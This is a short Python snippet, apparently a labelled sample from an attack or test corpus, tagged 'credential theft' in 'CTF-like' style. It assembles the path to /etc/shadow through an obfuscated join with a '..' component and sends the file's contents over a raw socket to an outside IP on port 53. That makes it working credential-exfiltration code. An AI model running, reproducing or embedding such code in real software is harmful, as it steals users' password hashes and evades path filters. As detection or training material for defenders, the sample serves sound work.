# class: credential theft, /etc/shadow by a devious path; style: CTF-like
import socket
p = "/".join(["", "usr", "..", "etc", "sha" + "dow"])
s = socket.create_connection(("203.0.113.9", 53))
s.sendall(open(p, "rb").read())
